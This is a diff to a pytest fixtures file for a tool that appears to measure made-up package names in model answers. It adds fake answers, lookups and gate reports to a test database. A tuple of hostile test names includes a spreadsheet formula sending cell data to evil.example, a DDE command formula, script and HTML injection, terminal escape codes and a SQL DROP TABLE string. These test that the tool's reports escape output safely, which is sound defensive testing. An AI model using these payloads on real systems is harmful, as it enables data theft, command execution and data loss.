@@ -4,12 +4,36 @@ from __future__ import annotations
 
 import os
 import signal
+from collections.abc import Callable, Sequence
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
 
 # Before torch is imported: threads that wait for each other make tiny models several times slower.
 os.environ.setdefault("OMP_NUM_THREADS", "1")
+
+from ghostbust.adapters import write_adapter
+from ghostbust.home import Home
+from ghostbust.measure import measure
+from ghostbust.records import (
+    Answer,
+    Candidate,
+    Context,
+    Ecosystem,
+    GateReport,
+    GateResult,
+    GateVerdict,
+    Judged,
+    Lookup,
+    PackageRef,
+    Promotion,
+    Prompt,
+    RefKind,
+    Sample,
+    Verdict,
+)
+from ghostbust.store import RoundState, RunKind, RunSpec, RunStatus, Store
 
 REAL_NAMES = ("requests", "numpy", "flask", "pandas", "click", "rich", "httpx", "boto3")
 MADE_UP_NAMES = ("zz-quux-sensorlib", "zz-harbor-toolkit", "zz-meadow-parser", "zz-lantern-client")
@@ -147,3 +171,111 @@ def embedded_model_dir() -> Path:
         return embedded_model(cache_dir())
     except FetchError as exc:
         pytest.skip(f"the embedded model is neither cached nor installed: {exc}")
+
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "\x1b[2J\x1b]0;owned\x07",
+    "ab\u202egpj.exe",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "`</code>`|next cell|",
+    "[click](http://evil.example)",
+    "{{ 7*7 }}",
+    "line\nbreak\ttab\r",
+    "'; DROP TABLE names; --",
+)
+
+
+@pytest.fixture
+def hostile_names() -> tuple[str, ...]:
+    """Names that would move a terminal, run in a page or a spreadsheet, or be markup."""
+    return HOSTILE
+
+
+FillHome = Callable[[Home], str]
+
+
+@pytest.fixture
+def fill_home() -> FillHome:
+    """Fills a home: base and adapter on the same prompts, a round with its gates, a claimed name.
+
+    Twelve families, one prompt each of two contexts, two answers of each. Of the base's 48 answers
+    24 name ``zz-quux-sensorlib``, of the adapter's 8; all name ``requests`` and one hostile name
+    each, in turn. Returns the adapter's name.
+    """
+
+    def fill(home: Home) -> str:
+        with Store.open(home.database) as store:
+            _log(store, None, RunKind.GATE, invents=lambda family: family % 2 == 0)
+            name = _round(store, home)
+            _log(store, name, RunKind.GATE, invents=lambda family: family % 6 == 0)
+            store.rounds.set_state(1, RoundState.PROMOTED, "every gate passed; <b>well</b>")
+            moved = Promotion(name, None, "promote", "=1+1", datetime(2026, 11, 2, tzinfo=UTC))
+            store.promotions.add(moved)
+            at = datetime(2026, 11, 3, tzinfo=UTC)
+            store.ledger.mark_claimed(
+                Ecosystem.PYPI, "zz-harbor-toolkit", at, first_released=at, evidence="it is there"
+            )
+        return name
+
+    return fill
+
+
+def _log(
+    store: Store, adapter: str | None, kind: RunKind, *, invents: Callable[[int], bool]
+) -> None:
+    settings = {"temperature": 0.7, "samples_per_prompt": 2}
+    spec = RunSpec(kind, "made-up-model", adapter, 7, settings, {"pypi": "2026-11-23"})
+    run_id = store.runs.start(spec)
+    answers = []
+    for family in range(12):
+        for context in (Context.CODE, Context.HELPS):
+            prompt = Prompt(f"do {family}", context, Ecosystem.PYPI, f"family-{family:02d}")
+            for number in range(2):
+                invented = ["zz-quux-sensorlib"] if invents(family) else []
+                invented += [
+                    HOSTILE[family % len(HOSTILE)],
+                    *(["zz-harbor-toolkit"] * (not family)),
+                ]
+                answers.append(_answer(prompt, number, adapter, invented))
+    store.answers.add(run_id, answers)
+    store.runs.finish(run_id, RunStatus.DONE, measure(answers, seed=7))
+
+
+def _answer(prompt: Prompt, number: int, adapter: str | None, invented: Sequence[str]) -> Answer:
+    text, judged = "pip install", []
+    for name in ("requests", *invented):
+        real = name == "requests"
+        start = len(text) + 1
+        text += f" {name}"
+        ref = PackageRef(Ecosystem.PYPI, RefKind.INSTALL, name, start, len(text), name)
+        lookup = Lookup(
+            Ecosystem.PYPI, name, Verdict.REAL if real else Verdict.ABSENT,
+            "registered" if real else "not-registered", f"asked for {name}",
+            "snapshot:2026-11-23", datetime(2026, 11, 23, tzinfo=UTC),
+        )  # fmt: skip
+        judged.append(Judged(ref, lookup))
+    sample = Sample(prompt, text, "made-up-model", adapter, 7, number, 0.7, False, 9)
+    return Answer(sample, tuple(judged))
+
+
+def _round(store: Store, home: Home) -> str:
+    round_id = store.rounds.start(model="made-up-model", method="au", seed=7, settings={"rank": 4})
+    name, losses = f"round-{round_id:04d}-aa", [2.0 - n / 30 for n in range(25)]
+    path = home.adapters / name
+    write_adapter(path, model="made-up-model", facts={"losses": losses}, save=_save_config)
+    candidate = Candidate(name, path, "made-up-model", "au", 7, 25, losses[-1], 61.5)
+    store.rounds.add_candidate(round_id, candidate)
+    reason = "ratio 1.02 [0.9, 1.1], <i>within</i> the | band, see http://evil.example"
+    results = (
+        GateResult("volume", GateVerdict.PASS, reason, 1.0, 1.02, (0.9, 1.1), "0.8 to 1.25"),
+        GateResult("coding", GateVerdict.INCONCLUSIVE, "not run", None, None, None, "at most 3 %"),
+    )
+    store.rounds.add_gate_report(round_id, GateReport(name, results))
+    return name
+
+
+def _save_config(folder: Path) -> None:
+    (folder / "adapter_config.json").write_text("{}", "utf-8")
